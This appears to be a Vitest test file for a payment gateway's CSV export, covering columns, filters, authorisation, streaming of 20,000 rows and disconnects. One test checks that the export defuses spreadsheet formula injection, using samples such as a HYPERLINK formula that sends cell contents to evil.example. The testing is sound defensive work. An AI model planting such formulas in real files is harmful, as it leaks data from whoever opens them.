/** The export of payments as CSV: its format, its filters, reading in portions, and a client that disconnects. */
import { get, type IncomingMessage } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { foldProjections } from '../../src/core/projections/projections.ts';
import { paymentSearch } from '../../src/store/payments/search-projection.ts';
import { entryOf } from '../support/entries.ts';
import { ADMIN_TOKEN, type Fields, type Merchant, newOrderId, openShop } from '../support/gateway.ts';
import { signedIn } from '../support/operators.ts';
import { preparedPayment } from '../support/payments.ts';

const shop = openShop();
afterEach(() => vi.restoreAllMocks());

const PURCHASE_COLUMNS = ['payer_name', 'payer_email', 'card', 'card_network', 'description', 'payer_country'];

const download = (query: Fields = {}) => shop.admin('GET', `/payments.csv?${new URLSearchParams(query)}`);

/** Parses CSV as RFC 4180 defines it, independently of the product. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const match = cell.exec(text);
    if (!match) throw new Error(`Not CSV at ${at}: ${text.slice(at, at + 80)}`);
    row.push(match[1]?.replaceAll('""', '"') ?? (match[2] as string));
    if (match[3] === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
/** The rows as objects. */
function records(text: string): Fields[] {
  const [head = [], ...rows] = parse(text);
  return rows.map((row) => {
    expect(row).toHaveLength(head.length);
    return Object.fromEntries(head.map((name, index) => [name, row[index] as string]));
  });
}

describe('the file', () => {
  test('has the fields of the list', async () => {
    const merchant = await shop.newMerchant();
    await shop.sale({ order_amount: '12.50' }, merchant);
    await shop.sale({ identifier: 'decline@example.com' }, merchant);
    const { items } = (await shop.admin('GET', `/payments?mid=${merchant.mid}`)).body;
    const { status, body, headers } = await download({ mid: merchant.mid });
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename=payments-\d{4}-\d{2}-\d{2}T\d{6}Z\.csv$/);
    const [head] = parse(body);
    expect(head).toEqual([...Object.keys(items[0]), ...PURCHASE_COLUMNS]);
    expect(records(body)).toEqual(
      items.map((item: Record<string, unknown>) =>
        expect.objectContaining(
          Object.fromEntries(Object.entries(item).map(([name, value]) => [name, String(value ?? '')])),
        ),
      ),
    );
    expect(records(body)).toHaveLength(2);
  });

  test('has the purchase and the payer', async () => {
    const merchant = await shop.newMerchant();
    const payer = { payer_first_name: 'Eva', payer_last_name: 'Král', payer_email: 'eva@example.com' };
    await shop.sale({ ...payer, payer_country: 'CZ', order_description: 'Two pears' }, merchant);
    expect(records((await download({ mid: merchant.mid })).body)[0]).toMatchObject({
      payer_name: 'Eva Král',
      payer_email: 'eva@example.com',
      card: '',
      card_network: '',
      description: 'Two pears',
      payer_country: 'CZ',
    });
  });

  test('has the columns that were chosen, in this order', async () => {
    const merchant = await shop.newMerchant();
    const { body: sale } = await shop.sale({ order_amount: '12.50' }, merchant);
    const { body } = await download({ mid: merchant.mid, columns: 'amount,payment_id' });
    expect(body).toBe(`amount,payment_id\r\n12.50,${sale.trans_id}\r\n`);
  });

  test.each(['amount,pan', 'amount,', 'amount,amount', 'amount, currency'])(
    'refuses the columns "%s"',
    async (columns) => {
      const { status, body } = await download({ columns });
      expect(status).toBe(400);
      expect(body.errors).toMatchObject([
        { error_message: expect.stringMatching(/^columns: /), expected: expect.stringContaining('payer_country') },
      ]);
    },
  );

  test('has the columns that were chosen in the panel', async () => {
    const merchant = await shop.newMerchant();
    await shop.sale({ order_amount: '12.50' }, merchant);
    const viewer = await signedIn(shop, 'viewer');
    const { text: page } = await viewer.get(`/admin/payments?mid=${merchant.mid}`);
    expect(page).toContain('name="column.payer_country"');
    expect(page).toContain(`<input type="hidden" name="mid" value="${merchant.mid}">`);
    const file = await viewer.get(`/admin/payments.csv?mid=${merchant.mid}&column.currency=1&column.amount=1`);
    expect(file.text).toBe('amount,currency\r\n12.50,USD\r\n');
  });

  test('has a head only without payments', async () => {
    const { mid } = await shop.newMerchant();
    const { status, body } = await download({ mid });
    expect(status).toBe(200);
    expect(parse(body)).toHaveLength(1);
    expect(body).toMatch(
      /^payment_id,mid,order_id,.*,updated_at,connector,connection_id,route_reason,provider_reference,link_id,invoice_id,channel,payer_name,payer_email,card,card_network,description,payer_country\r\n$/,
    );
  });

  test.each([
    ['commas', 'a,b,,c', 'a,b,,c'],
    ['quotation marks', 'a"b"', 'a"b"'],
    ['only a quotation mark', '"', '"'],
    ['a line feed', 'a\nb', 'a\nb'],
    ['a carriage return', 'a\rb', 'a\rb'],
    ['both', 'a\r\nb', 'a\r\nb'],
    ['spaces around', ' a ', ' a '],
    ['other alphabets', 'Größe 訂單 🙂 عربى', 'Größe 訂單 🙂 عربى'],
    ['a formula', '=HYPERLINK("http://evil.example?"&A1,"x")', `'=HYPERLINK("http://evil.example?"&A1,"x")`],
    ['a plus', '+1', "'+1"],
    ['a minus', '-1+cmd', "'-1+cmd"],
    ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', "'\t=1"],
    ['a leading carriage return', '\r=1', "'\r=1"],
    ['a formula later in the text', 'a=1', 'a=1'],
    ['an apostrophe', "'a", "'a"],
  ])('keeps %s', async (_, decline_reason, expected) => {
    const merchant = await shop.newMerchant();
    const { body: sale } = await shop.sale({ identifier: 'decline@example.com' }, merchant);
    const literal = `'${decline_reason.replaceAll("'", "''")}'`;
    await shop.rows(`update payments set decline_reason = ${literal} where payment_id = '${sale.trans_id}'`);
    const [record] = records((await download({ mid: merchant.mid })).body);
    expect(record).toMatchObject({ payment_id: sale.trans_id, decline_reason: expected, attention: '' });
  });

  test('guards order ids, which merchants choose', async () => {
    const order_id = `=1+1;${newOrderId()}`;
    const merchant = await shop.newMerchant();
    await shop.sale({ order_id }, merchant);
    expect(records((await download({ mid: merchant.mid })).body)[0]?.order_id).toBe(`'${order_id}`);
  });
});

describe('filters', () => {
  test('are those of the list', async () => {
    const merchant = await shop.newMerchant();
    const payer_email = `eva-${newOrderId()}@example.com`;
    const ids = async (query: Fields) => records((await download(query)).body).map(({ payment_id }) => payment_id);
    const settled = (await shop.sale({ payer_email }, merchant)).body.trans_id;
    const declined = (await shop.sale({ payer_email, identifier: 'decline@example.com' }, merchant)).body.trans_id;
    const { order_id } = await shop.inspect(settled);
    await shop.sale();
    expect(await ids({ mid: merchant.mid })).toEqual([declined, settled]);
    expect(await ids({ mid: merchant.mid, status: 'DECLINED' })).toEqual([declined]);
    expect(await ids({ order_id })).toEqual([settled]);
    expect(await ids({ q: payer_email })).toEqual([declined, settled]);
    expect(await ids({ q: `${payer_email} ${order_id}` })).toEqual([settled]);
    expect(await ids({ q: payer_email, brand: 'card' })).toEqual([]);
    expect(await ids({ q: payer_email, from: '2020-01-01', to: '2020-01-02' })).toEqual([]);
  });

  test.each([
    ['mid=x', 'mid: This value is not valid.'],
    ['q=%00', 'q: This value is not valid.'],
    ['limit=10', 'limit: This parameter does not exist.'],
    ['cursor=01990000-0000-7000-8000-000000000000', 'cursor: This parameter does not exist.'],
  ])('?%s: 400 in JSON', async (query, error_message) => {
    const { status, body, headers } = await shop.admin('GET', `/payments.csv?${query}`);
    expect({ status, errors: body.errors }).toEqual({ status: 400, errors: [entryOf(error_message)] });
    expect(headers.get('content-disposition')).toBeNull();
  });

  test('needs the token', async () => {
    expect((await shop.admin('GET', '/payments.csv', undefined, '')).status).toBe(401);
  });

  test('a HEAD request reads nothing', async () => {
    const list = vi.spyOn(shop.gateway.payments, 'list');
    const headers = { authorization: `Bearer ${ADMIN_TOKEN}` };
    const { status } = await fetch(`${shop.url}/admin/api/payments.csv`, { method: 'HEAD', headers });
    expect(status).toBe(405);
    expect(list).not.toHaveBeenCalled();
  });
});

describe('20,000 payments', () => {
  const COUNT = 20_000;
  /** How many payments are read at a time, stated independently of the source. */
  const PORTION = 500;
  let merchant: Merchant;
  beforeAll(async () => {
    merchant = await shop.newMerchant();
    // Long texts, so that the file is larger than the buffers of the connection.
    await shop.rows(`
      insert into payments (mid, payment_id, order_id, attempt, protocol, brand, connector, state, history_length,
        amount_text, currency, amount, is_authorisation, is_recurring_init, fingerprint, descriptor, decline_reason,
        details, created_at, updated_at)
      select '${merchant.mid}', ('01900000-0000-7000-8000-' || lpad(n::text, 12, '0'))::uuid, 'export-' || n, 1, 's2s',
        'card', 'upstream', 'DECLINED', 2, '10.00', 'EUR', 1000, false, false, '', 'SHOP', repeat('No. ', 250),
        '{}', now(), now()
      from generate_series(1, ${COUNT}) n`);
    // They have no history from which the projection would follow.
    await shop.gateway.projections.rebuild(paymentSearch);
    await foldProjections(shop.gateway);
    await shop.rows('analyze payments; analyze payment_search');
  });

  const open = (): Promise<IncomingMessage> =>
    new Promise((resolve, reject) => {
      const headers = { authorization: `Bearer ${ADMIN_TOKEN}` };
      get(`${shop.url}/admin/api/payments.csv?mid=${merchant.mid}`, { headers }, resolve).on('error', reject);
    });
  /** The number of reads, once no more follow. */
  const settledCount = async (calls: unknown[]): Promise<number> => {
    for (let before = -1; calls.length !== before; await pause(300)) before = calls.length;
    return calls.length;
  };

  test('are all in the file, each once, newest first', async () => {
    const list = vi.spyOn(shop.gateway.payments, 'list');
    const ids = records((await download({ mid: merchant.mid })).body).map(({ payment_id }) => payment_id);
    expect(ids).toHaveLength(COUNT);
    expect(ids).toEqual([...new Set(ids)].sort().reverse());
    expect(list.mock.calls.map(([{ limit }]) => limit)).toEqual(Array(COUNT / PORTION).fill(PORTION));
  });

  test('are read only as fast as the client reads', async () => {
    const list = vi.spyOn(shop.gateway.payments, 'list');
    const response = await open();
    expect(response.statusCode).toBe(200);
    response.pause();
    const first = response.read(100) ?? (await new Promise((resolve) => response.once('readable', resolve)));
    expect(first).not.toBeNull();
    // The response has begun, and most payments are not read yet: the buffers of the connection are full.
    const read = await settledCount(list.mock.calls);
    expect(read).toBeLessThan(COUNT / PORTION / 2);
    let bytes = 0;
    for await (const chunk of response) bytes += chunk.length;
    expect(bytes).toBeGreaterThan(COUNT * 1000);
    expect(list).toHaveBeenCalledTimes(COUNT / PORTION);
  });

  test('are not read any further when the client disconnects', async () => {
    const list = vi.spyOn(shop.gateway.payments, 'list');
    const response = await open();
    const logged = shop.logs.length;
    response.destroy();
    expect(await settledCount(list.mock.calls)).toBeLessThan(COUNT / PORTION / 2);
    expect(shop.logs.slice(logged)).toEqual([]);
    expect((await shop.admin('GET', '/payments?limit=1')).status).toBe(200);
  });

  test('break off visibly when the database fails', async () => {
    const list = vi.spyOn(shop.gateway.payments, 'list');
    const response = await open();
    response.pause();
    await settledCount(list.mock.calls);
    const logged = shop.logs.length;
    await shop.rows('alter table payments rename to payments_elsewhere');
    try {
      const drain = async () => {
        for await (const chunk of response) expect(chunk.length).toBeGreaterThan(0);
      };
      await expect(drain()).rejects.toThrow('aborted');
      expect(shop.logs.slice(logged).map((line) => JSON.parse(line))).toMatchObject([
        { level: 'error', msg: 'export broke off' },
      ]);
      expect((await download()).status).toBeGreaterThanOrEqual(500);
    } finally {
      await shop.rows('alter table payments_elsewhere rename to payments');
    }
  });

  test('payments that arrive meanwhile do not disturb it', async () => {
    const response = await open();
    response.pause();
    const late = preparedPayment(shop, { mid: merchant.mid });
    await shop.gateway.payments.open(late);
    let text = '';
    response.setEncoding('utf8');
    for await (const chunk of response) text += chunk;
    expect(text.match(/\r\n/g)).toHaveLength(1 + COUNT);
    expect(text).not.toContain(late.paymentId);
  });
});
